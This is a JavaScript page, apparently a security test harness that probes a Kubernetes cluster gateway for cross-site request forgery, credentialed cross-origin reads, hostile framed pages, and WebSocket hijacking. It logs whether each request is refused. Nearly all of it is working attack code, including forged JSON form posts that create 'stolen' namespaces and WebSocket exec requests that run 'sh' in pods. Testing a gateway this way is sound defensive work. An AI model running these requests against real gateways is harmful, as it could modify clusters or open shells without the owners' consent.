// Everything that a page can send to another origin. Each attempt is a line "KIND METHOD URL -> OUTCOME" of the report.
const gateway = new URLSearchParams(location.search).get("gateway");
const lines = [];
const LIMIT = 5000;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const limited = (promise) => Promise.race([promise, pause(LIMIT).then(() => "no end")]);
let count = 0;

async function attempt(kind, what, action) {
  let outcome;
  try { outcome = await limited(action()); } catch (error) { outcome = "refused: " + error.name; }
  lines.push(`${kind} ${what} -> ${String(outcome).replace(/\s+/g, " ").slice(0, 300)}`);
}

const loaded = (element) => new Promise((resolve) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("error");
});

function frame(name) {
  const element = document.createElement("iframe");
  element.name = name;
  return element;
}

// A window has left about:blank as soon as this page may not look into it any more. Its document has run what it can after a moment.
async function committed(opened, moment) {
  if (!opened) return "no window";
  for (let looks = 0; looks < LIMIT / 50; looks++) {
    try { if (opened.location.href !== "about:blank") break; } catch { break; }
    await pause(50);
  }
  await pause(moment);
  opened.close();
  return "shown";
}

function form(url, type, body, target) {
  const element = document.createElement("form");
  Object.assign(element, { method: "POST", action: url, enctype: type, target });
  const input = document.createElement("input");
  // With text/plain the name, an equals sign and the value are the body: JSON if it is cut there.
  const cut = body.lastIndexOf('"}') ;
  Object.assign(input, { type: "hidden", name: body.slice(0, cut) + '","x":"', value: body.slice(cut) });
  element.append(input);
  document.body.append(element);
  return element;
}

// What would change something: at the victim, at the recording member, and a virtual cluster.
function targets() {
  const name = `stolen-${location.hostname.replaceAll(".", "-")}-${count++}`;
  const object = (kind) => JSON.stringify({ apiVersion: "v1", kind, metadata: { name, annotations: { a: "b" } } });
  return [
    [`${gateway}/clusters/skopos-test/api/v1/namespaces?x=${name}`, object("Namespace")],
    [`${gateway}/clusters/evil/api/v1/namespaces/default/configmaps?x=${name}`, object("ConfigMap")],
    [`${gateway}/virtualclusters?host=skopos-test`, JSON.stringify({ name, namespace: name, manifests: [], x: { y: "z" } })],
    [`${gateway}/virtualclusters/default/${name}/pause?host=skopos-test`, ""],
  ];
}

async function writes() {
  for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    for (const [url, body] of targets()) {
      await attempt("form", `POST ${url} ${type}`, () => {
        const shown = frame(`f${count++}`);
        document.body.append(shown);
        form(url, type, body, shown.name).submit();
        return loaded(shown);
      });
    }
  }
  const json = { "content-type": "application/json" };
  for (const [url, body] of targets()) {
    const send = (options) => fetch(url, { method: "POST", body, credentials: "include", ...options });
    const simple = { mode: "no-cors" };
    await attempt("no-cors", `POST ${url} text`, async () => (await send(simple)).type);
    await attempt("no-cors", `POST ${url} without a type`, async () =>
      (await send({ ...simple, body: new Blob([body]) })).type);
    await attempt("no-cors", `POST ${url} keepalive`, async () => (await send({ ...simple, keepalive: true })).type);
    await attempt("no-cors", `POST ${url} without a referrer`, async () =>
      (await send({ ...simple, referrerPolicy: "no-referrer" })).type);
    await attempt("beacon", `POST ${url}`, async () => navigator.sendBeacon(url, body));
    await attempt("beacon", `POST ${url} json`, async () => navigator.sendBeacon(url, new Blob([body], { type: json["content-type"] })));
    await attempt("cors", `POST ${url} text`, async () => "read " + (await (await send({ mode: "cors" })).text()));
    for (const method of ["POST", "PUT", "PATCH", "DELETE"]) {
      await attempt("cors", `${method} ${url} json`, async () =>
        "read " + (await (await send({ mode: "cors", method, headers: json })).text()));
    }
  }
  // A frame without an origin: `Origin: null`.
  for (const [url, body] of targets()) {
    await attempt("no-cors", `POST ${url} of a sandbox`, () => {
      const shown = frame("");
      shown.sandbox = "allow-scripts allow-forms";
      const script = `fetch(${JSON.stringify(url)}, { method: "POST", mode: "no-cors", credentials: "include", body: ${JSON.stringify(body)} })` +
        `.then(() => "sent", (e) => e.name).then((said) => parent.postMessage(said, "*"))`;
      shown.srcdoc = `<script>${script}</scr` + `ipt>`;
      const said = new Promise((resolve) => addEventListener("message", (event) => resolve(event.data), { once: true }));
      document.body.append(shown);
      return said;
    });
  }
  for (const [url, body] of targets()) {
    await attempt("navigation", `POST ${url}`, async () => {
      const name = `w${count++}`;
      const opened = open("about:blank", name);
      form(url, "text/plain", body, name).submit();
      return committed(opened, 0);
    });
  }
}

async function reads() {
  const secret = `${gateway}/clusters/skopos-test/api/v1/namespaces`;
  for (const url of [secret, `${gateway}/fleet/api/v1/namespaces`, `${gateway}/clusters/evil/page.html`, `${gateway}/version`]) {
    await attempt("cors", `GET ${url}`, async () => "read " + (await (await fetch(url, { credentials: "include" })).text()));
    await attempt("cors", `GET ${url} anonymously`, async () => "read " + (await (await fetch(url, { credentials: "omit" })).text()));
  }
}

async function pages() {
  for (const page of ["page.html", "page.svg", "page.xhtml", "version", "openapi/v2"]) {
    const url = `${gateway}/clusters/evil/${page}`;
    await attempt("frame", `GET ${url}`, () => {
      const shown = frame("");
      shown.src = url;
      document.body.append(shown);
      return loaded(shown);
    });
    await attempt("navigation", `GET ${url}`, () => committed(open(url), 500));
  }
  await attempt("object", "GET page.svg", () => {
    const shown = document.createElement("object");
    shown.data = `${gateway}/clusters/evil/page.svg`;
    document.body.append(shown);
    return loaded(shown);
  });
}

async function sockets() {
  const url = gateway.replace(/^http/, "ws");
  for (const member of ["evil", "skopos-test"]) {
    const target = `${url}/clusters/${member}/api/v1/namespaces/default/pods/stolen/exec?command=sh&stdout=true`;
    for (const protocols of [["v5.channel.k8s.io"], ["v4.channel.k8s.io", "base64url.bearer.authorization.k8s.io.Ym9i"], []]) {
      await attempt("websocket", `GET ${target} ${protocols[0]}`, () => new Promise((resolve) => {
        const socket = new WebSocket(target, protocols);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("error");
      }));
    }
  }
}

(async () => {
  await pages();
  await reads();
  await writes();
  await sockets();
  await fetch("/report", { method: "POST", body: lines.join("\n") });
})();
